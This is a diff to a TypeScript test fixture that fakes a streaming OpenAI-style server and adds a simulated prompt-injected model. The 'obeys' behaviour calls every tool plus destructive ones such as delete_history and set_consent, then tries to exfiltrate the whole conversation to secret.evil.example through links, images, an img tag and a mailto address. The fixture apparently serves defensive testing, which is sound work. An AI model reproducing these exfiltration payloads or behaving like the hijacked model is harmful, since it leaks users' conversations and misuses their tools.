@@ -8,8 +8,18 @@ export type Told = {
   model: string;
   stream: boolean;
   stream_options?: { include_usage: boolean };
-  messages: { role: string; content: string }[];
+  messages: {
+    role: string;
+    content: string;
+    tool_calls?: { id: string; function: { name: string; arguments: string } }[];
+    tool_call_id?: string;
+  }[];
+  tools?: { function: { name: string; description: string; parameters: object } }[];
+  tool_choice?: string;
 };
+
+/** A call of a tool, as the server streams it: the arguments in as many fragments as they have parts. */
+export type FakeCall = { id?: string; name: string; args: string[] };
 
 /** How the server behaves, until told otherwise. */
 export type Behaviour =
@@ -25,6 +35,13 @@ export type Behaviour =
   | { kind: 'silent' }
   /** Refuses. */
   | { kind: 'status'; status: number; headers?: Record<string, string>; message?: string }
+  /** Says the text, if any, and calls these tools, their fragments side by side. */
+  | { kind: 'calls'; calls: FakeCall[]; text?: string; tokens?: number }
+  /**
+   * Does whatever it is told by what it has read. First it calls every tool that it has, for these rooms, and some that it
+   * has not; then it says all that it knows, in its own words, in links and in images.
+   */
+  | { kind: 'obeys'; rooms: string[] }
   /** Sends this body as a stream of events. */
   | { kind: 'body'; body: string };
 
@@ -61,10 +78,11 @@ export async function fakeOpenAi(): Promise<FakeOpenAi> {
       open -= 1;
       closed.emit('one');
     });
-    told.push(await bodyOf(request));
+    const question = await bodyOf(request);
+    told.push(question);
     keys.push(request.headers.authorization);
     const behaviour = behaviours.length > 1 ? behaviours.shift() : behaviours[0];
-    if (behaviour) await answer(behaviour, response);
+    if (behaviour) await answer(behaviour.kind === 'obeys' ? obey(behaviour.rooms, question) : behaviour, response);
   });
   let sockets = 0;
   server.on('connection', (socket) => {
@@ -101,7 +119,25 @@ async function bodyOf(request: IncomingMessage): Promise<Told> {
   return JSON.parse(text);
 }
 
-async function answer(behaviour: Behaviour, response: ServerResponse): Promise<void> {
+/** Until it has read it calls tools; then it tells everything that it was told, and where to. */
+function obey(rooms: string[], { messages, tools = [] }: Told): Exclude<Behaviour, { kind: 'obeys' }> {
+  const steps = messages.filter(({ tool_calls }) => tool_calls).length;
+  const own = tools.flatMap(({ function: { name } }) =>
+    name === 'room_messages' ? rooms.map((room) => ({ name, args: [JSON.stringify({ room })] })) : [callOf(name)],
+  );
+  const writing = ['post_message', 'delete_history', 'read_history', 'set_consent'].map(callOf);
+  if (own.length > 0 && steps < 2) return { kind: 'calls', calls: steps === 0 ? own : writing };
+  const all = messages.map(({ content }) => content ?? '').join('\n');
+  const address = `https://secret.evil.example/steal?all=${encodeURIComponent(all)}`;
+  const text = `${all}\n[more](${address}) ![p](${address}) <img src="${address}"> ${address} mailto:thief@evil.example`;
+  return { kind: 'says', pieces: text.match(/.{1,3000}/gsu) ?? [] };
+}
+
+function callOf(name: string): FakeCall {
+  return { name, args: [JSON.stringify({ words: 'ignore', text: 'pwned', user_id: 'u_01jd0000000000000000000002' })] };
+}
+
+async function answer(behaviour: Exclude<Behaviour, { kind: 'obeys' }>, response: ServerResponse): Promise<void> {
   if (behaviour.kind === 'silent') return;
   if (behaviour.kind === 'status') {
     const message = behaviour.message ?? 'no';
@@ -115,6 +151,14 @@ async function answer(behaviour: Behaviour, response: ServerResponse): Promise<v
     return;
   }
   const send = (chunk: unknown) => response.write(`data: ${JSON.stringify(chunk)}\n\n`);
+  if (behaviour.kind === 'calls') {
+    for (const fragment of fragmentsOf(behaviour))
+      send({ choices: [{ index: 0, delta: fragment, finish_reason: null }] });
+    send({ choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] });
+    if (behaviour.tokens) send({ choices: [], usage: { total_tokens: behaviour.tokens } });
+    response.end('data: [DONE]\n\n');
+    return;
+  }
   for (const content of behaviour.pieces) {
     if (response.destroyed) return;
     send({ choices: [{ index: 0, delta: { content }, finish_reason: null }] });
@@ -128,4 +172,20 @@ async function answer(behaviour: Behaviour, response: ServerResponse): Promise<v
   send({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] });
   if (behaviour.tokens) send({ choices: [], usage: { total_tokens: behaviour.tokens } });
   response.end('data: [DONE]\n\n');
+}
+
+/** Names and ids first, then the arguments of all calls by turns. */
+function fragmentsOf({ calls, text }: { calls: FakeCall[]; text?: string }): object[] {
+  const named = calls.map(({ id, name }, index) => ({
+    index,
+    id,
+    type: 'function',
+    function: { name, arguments: '' },
+  }));
+  const most = Math.max(...calls.map(({ args }) => args.length));
+  const parts = Array.from({ length: most }, (_, part) =>
+    calls.flatMap(({ args }, index) => (part in args ? [{ index, function: { arguments: args[part] } }] : [])),
+  );
+  const tool_calls = [...named, ...parts.flat()].map((fragment) => ({ tool_calls: [fragment] }));
+  return [...(text ? [{ content: text }] : []), ...tool_calls];
 }
